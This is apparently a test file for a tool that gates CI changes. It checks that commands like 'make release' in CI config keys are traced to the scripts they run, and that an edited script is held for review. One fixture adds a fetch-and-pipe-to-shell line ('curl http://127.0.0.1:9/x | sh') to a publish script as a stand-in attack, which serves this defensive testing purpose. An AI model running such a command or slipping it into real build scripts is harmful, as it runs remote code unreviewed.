"""Review 70 (attack on determinism 45's narrowing, yamlnodes.folded_strings): a runner's command as a plain one-line
value of a command key the line readers' key lists lack was read by nothing, quoted it was (a quoted value below a
command key is read again as its line): Cirrus' and AppVeyor's `build_script: make release`, GitLab's `before_script:
make release` and `after_script: [make release]`, Travis' `before_script:`/`after_success:`, Woodpecker's and Drone's
`commands: make release` (one string), Azure's `bash:`/`pwsh:`, Taskfile's `cmds: [make release]`. The script the
Makefile's (or package.json's) recipe runs stayed `src` and an edit of it exit 0. A plain one-line scalar with a space
that is a command key's own value (or an item of its list) is now read alone as its line. Look-alikes: the same words
below a command key but not its value (a job named `build` whose `name:` is `make release notes`), a data key's value
(`description:`), one word."""

from __future__ import annotations

from pathlib import Path

from changecase import committed, gated_rules
from citools import tree_runs
from cpucost import assert_linear, repeated
from tables import each_case

from gatekeeper.classify import yamlnodes

DEFINITIONS = [(".cirrus.yml", "task:\n  container: {{image: x}}\n  build_script: {c}\n"),
               (".cirrus.yml", "task:\n  container: {{image: x}}\n  release_background_script: {c}\n"),
               ("appveyor.yml", "image: Ubuntu\nbuild_script: {c}\n"), ("appveyor.yml", "on_success: {c}\n"),
               (".gitlab-ci.yml", "t:\n  before_script: {c}\n  script: echo\n"),
               (".gitlab-ci.yml", "t:\n  after_script: [{c}]\n  script: echo\n"),
               (".travis.yml", "language: python\nbefore_script: {c}\nscript: echo\n"),
               (".travis.yml", "language: python\nafter_success: {c}\nscript: echo\n"),
               (".woodpecker.yml", "steps:\n  t:\n    image: x\n    commands: {c}\n"),
               (".drone.yml", "kind: pipeline\nsteps:\n- name: t\n  image: x\n  commands: {c}\n"),
               ("azure-pipelines.yml", "steps:\n- bash: {c}\n"), ("azure-pipelines.yml", "steps:\n- pwsh: {c}\n")]
RUNNERS = [("make release", {"Makefile": "release:\n\tbash support/publish.sh\n"}),
           ("npm run release", {"package.json": "{\"scripts\": {\"release\": \"bash support/publish.sh\"}}\n"}),
           ("make -C . release", {"Makefile": "release:\n\tbash support/publish.sh\n"})]


@each_case("path, text, files", [(path, text.format(c=command), files) for path, text in DEFINITIONS
                                 for command, files in RUNNERS])
def test_a_runner_command_as_a_command_keys_plain_value_runs_its_recipe(path: str, text: str,
                                                                         files: dict[str, str]) -> None:
    tree = {path: text, "support/publish.sh": "#!/bin/sh\n", **files}
    assert "support/publish.sh" in tree_runs(tree), (path, text)  # before: 36/36 missed


@each_case("path, text", [
    (".github/workflows/ci.yml", "on: push\njobs:\n  build:\n    name: make release notes\n    runs-on: x\n"
                                 "    steps:\n      - run: echo\n"),
    (".gitlab-ci.yml", "t:\n  description: make release\n  script: echo\n"),
    (".cirrus.yml", "task:\n  name: make release\n  build_script: echo\n"),
    (".github/dependabot.yml", "version: 2\nupdates:\n  - package-ecosystem: npm\n    directory: make release\n")])
def test_look_alikes_run_no_recipe(path: str, text: str) -> None:
    tree = {path: text, "support/publish.sh": "#!/bin/sh\n", "Makefile": "release:\n\tbash support/publish.sh\n"}
    assert "support/publish.sh" not in tree_runs(tree), (path, text)


@each_case("hostile", [repeated("a_script: make x\n"), repeated("- [" * 50 + "a b" + "]" * 50 + "\n"),
                       repeated("k:\n  script:\n    - make a b\n")])
def test_the_reader_is_linear(hostile: object) -> None:
    # measured: at most 24 ms CPU at 64 KiB (load 6.1; libyaml's parse is most of it)
    assert_linear(lambda text: yamlnodes.folded_strings(text, quoted_data=False), hostile,  # type: ignore[arg-type]
                  budget=0.15)


def test_an_edit_of_a_script_a_cirrus_build_script_runs_through_make_is_held(tmp_path: Path) -> None:
    base = {".cirrus.yml": "task:\n  container: {image: x}\n  build_script: make release\n",
            "Makefile": "release:\n\tbash support/publish.sh\n", "support/publish.sh": "#!/bin/sh\necho ok\n"}
    case = committed(tmp_path, base, {"support/publish.sh": "#!/bin/sh\ncurl http://127.0.0.1:9/x | sh\n"})
    code, named = gated_rules(case, True)
    assert (code, named.get("core.ci")) == (3, ["support/publish.sh"]), named  # before: exit 0
